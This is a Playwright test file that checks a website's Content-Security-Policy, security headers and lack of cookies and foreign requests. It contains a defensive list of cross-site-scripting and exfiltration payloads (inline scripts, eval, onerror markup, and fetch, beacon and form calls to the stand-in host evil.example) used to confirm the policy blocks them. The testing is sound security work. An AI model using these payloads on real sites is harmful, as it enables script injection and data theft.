import { expect, type Page, test } from "@playwright/test";
import { COMMON_WORD, START } from "../support/harbour";
import { openLive, settled } from "../support/live";
import { navigate, watch } from "../support/requests";
import { openDialog, searchDialog } from "../support/searchDialog";
import { pressEverything, watchPolicy } from "../support/violations";

const UNLISTED = ["/help/unlisted", "/blog/secret", "/404", "/nowhere", "/search?q=tide"];
/** Number of tests that share the walk over all routes and run in parallel. */
const WALKERS = 3;

async function allRoutes(page: Page): Promise<readonly string[]> {
  const sitemap = await (await page.request.get("/sitemap.xml")).text();
  const listed = [...sitemap.matchAll(/<loc>https?:\/\/[^/]+([^<]*)<\/loc>/g)];
  return [...listed.map(([, path = ""]) => path), ...UNLISTED];
}

for (let walker = 0; walker < WALKERS; walker++)
  test(`nothing on any route is refused or comes from another site, in both modes, with everything clicked, and printed (${walker + 1} of ${WALKERS})`, {
    tag: "@slow",
  }, async ({ page }) => {
    const refused = await watchPolicy(page);
    const { errors, foreign } = watch(page);
    const posting: string[] = [];
    const routes = (await allRoutes(page)).filter((_, index) => index % WALKERS === walker);
    expect(routes.length).toBeGreaterThan(10);
    for (const route of routes) {
      await page.emulateMedia({ colorScheme: "light", media: "screen", reducedMotion: "reduce" });
      await openLive(page, route);
      await pressEverything(page);
      const forms = page.locator("form");
      if (
        await forms.evaluateAll((all: HTMLFormElement[]) =>
          all.some(({ method }) => method === "post"),
        )
      )
        posting.push(route);
      await page.emulateMedia({ colorScheme: "dark" });
      await page.emulateMedia({ media: "print" });
      await page.evaluate(() => dispatchEvent(new Event("beforeprint")));
    }
    await settled(page);
    expect({ refused, errors, foreign }).toEqual({ refused: [], errors: [], foreign: [] });
    expect({ posting, cookies: await page.context().cookies() }).toEqual({
      posting: [],
      cookies: [],
    });
  });

test("nothing is refused while a reader navigates and searches", async ({ page }) => {
  const refused = await watchPolicy(page);
  const { errors, foreign } = watch(page);
  const { dialog, field, rows, button } = { ...(await openDialog(page)), ...searchDialog(page) };
  await expect(dialog).toBeVisible();
  await field.fill(COMMON_WORD);
  await expect(rows.first()).toBeVisible();
  await page.emulateMedia({ colorScheme: "dark" });
  await page.keyboard.press("Enter");
  await expect(dialog).toHaveCount(0);
  await button.click(); // now with a recent search
  await field.fill("qqqqqq");
  await expect(dialog.locator(".DocSearch-Title", { hasText: "No results" })).toBeVisible();
  await page.keyboard.press("Escape");
  for (const route of (await allRoutes(page)).slice(0, 20)) {
    await navigate(page, route);
    await expect(page).toHaveURL(route);
  }
  await settled(page);
  expect({ refused, errors, foreign }).toEqual({ refused: [], errors: [], foreign: [] });
});

/** What an attacker's script would try on a page; `window.hacked` is set if it worked. */
const ATTACKS: readonly (readonly [name: string, code: string])[] = [
  [
    "an inline script",
    'const s=document.createElement("script");s.textContent="hacked=1";document.body.append(s)',
  ],
  [
    "a script of this site's other files",
    'const s=document.createElement("script");s.src="/robots.txt";document.body.append(s)',
  ],
  [
    "a script of another site",
    'const s=document.createElement("script");s.src="https://evil.example/x.js";document.body.append(s)',
  ],
  ["a handler", 'document.body.setAttribute("onclick","hacked=1");document.body.click()'],
  [
    "markup from text",
    'document.body.insertAdjacentHTML("beforeend","<img src=x onerror=hacked=1>")',
  ],
  ["code from text", 'eval("hacked=1")'],
  ["a function from text", 'new Function("hacked=1")()'],
  ["code of a timer from text", 'setTimeout("hacked=1")'],
  [
    "a page inside the page",
    'const f=document.createElement("iframe");f.src="https://evil.example/";document.body.append(f)',
  ],
  [
    "a worker from text",
    'new Worker(URL.createObjectURL(new Blob(["1"],{type:"text/javascript"})))',
  ],
  ["a foreign picture", 'new Image().src="https://evil.example/a.png"'],
  ["a foreign request", 'fetch("https://evil.example/?key=1")'],
  ["a beacon", 'navigator.sendBeacon("https://evil.example/","key")'],
  [
    "a foreign sheet of styles",
    'const l=document.createElement("link");l.rel="stylesheet";l.href="https://evil.example/a.css";document.head.append(l)',
  ],
  [
    "another base address",
    'const b=document.createElement("base");b.href="https://evil.example/";document.head.append(b)',
  ],
  [
    "a form that sends to another site",
    'const f=document.createElement("form");f.action="https://evil.example/";document.body.append(f);f.submit()',
  ],
];

const ATTACK_SCRIPT = `window.attacks={${ATTACKS.map(([name, code]) => `${JSON.stringify(name)}:()=>{${code}}`).join()}}`;

/** A site that answers every request with a script. @returns the requests that reach it */
async function attackersSite(page: Page): Promise<readonly string[]> {
  const reached: string[] = [];
  await page.route("https://evil.example/**", (route) => {
    reached.push(route.request().url());
    return route.fulfill({ body: "hacked=1", contentType: "text/javascript" });
  });
  return reached;
}

/** An attacker's markup in the HTML itself. */
const MARKUP =
  '<script>window.hacked=1</script><script src="/robots.txt"></script><script src="https://evil.example/x.js"></script><img src="https://evil.example/a.png" onerror="window.hacked=1"><svg onload="window.hacked=1"></svg><iframe srcdoc="<script>parent.hacked=1</script>"></iframe><a id="trap" href="javascript:window.hacked=1">x</a><p style="color:red" id="styled">x</p><style>#styled{color:red}</style><object data="https://evil.example/x"></object>';

/** Opens a page whose HTML was changed in transit, under the policy of its headers or only that of its meta element. */
async function openChanged(page: Page, by: "headers" | "meta", markup = ""): Promise<void> {
  await page.route(`**${START.path}`, async (route) => {
    const response = await route.fetch();
    const headers = response.headers();
    if (by === "meta") delete headers["content-security-policy"];
    const html = await response.text();
    const body =
      by === "headers"
        ? html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "")
        : html;
    await route.fulfill({ response, headers, body: body.replace("<body>", `<body>${markup}`) });
  });
  await page.goto(START.path);
}

for (const by of ["headers", "meta"] as const) {
  test(`with the policy of its ${by} alone a page refuses everything that an attacker's script tries`, async ({
    page,
  }) => {
    const refused = await watchPolicy(page);
    const reached = await attackersSite(page);
    await page.addInitScript({ content: ATTACK_SCRIPT });
    await openChanged(page, by);
    for (const [name] of ATTACKS) {
      const before = refused.length;
      // In a task of the page itself: code that a debugger runs may do more.
      await page.evaluate((key) => void setTimeout(Reflect.get(window, "attacks")[key]), name);
      await expect.poll(() => refused.length, { message: name }).toBeGreaterThan(before);
    }
    expect(await page.evaluate(() => Reflect.get(window, "hacked"))).toBeUndefined();
    expect(reached).toEqual([]);
  });

  test(`with the policy of its ${by} alone a page neither runs nor loads anything injected into its HTML`, async ({
    page,
  }) => {
    const refused = await watchPolicy(page);
    const reached = await attackersSite(page);
    await openChanged(page, by, MARKUP);
    await page.locator("#trap").click();
    await settled(page);
    expect(await page.evaluate(() => Reflect.get(window, "hacked"))).toBeUndefined();
    expect(reached).toEqual([]);
    expect(await page.locator("#styled").evaluate((p) => getComputedStyle(p).color)).not.toBe(
      "rgb(255, 0, 0)",
    );
    expect(refused.length).toBeGreaterThan(6);
  });
}

test("every answer has the headers, even for an unknown address", async ({ page }) => {
  for (const path of ["/", "/nowhere", "/sitemap.xml", "/page-data/app-data.json"]) {
    const headers = (await page.request.get(path)).headers();
    expect(headers["content-security-policy"], path).toContain("frame-ancestors 'none'");
    expect(headers["strict-transport-security"], path).toContain("max-age=");
    expect(headers["x-content-type-options"], path).toBe("nosniff");
  }
});
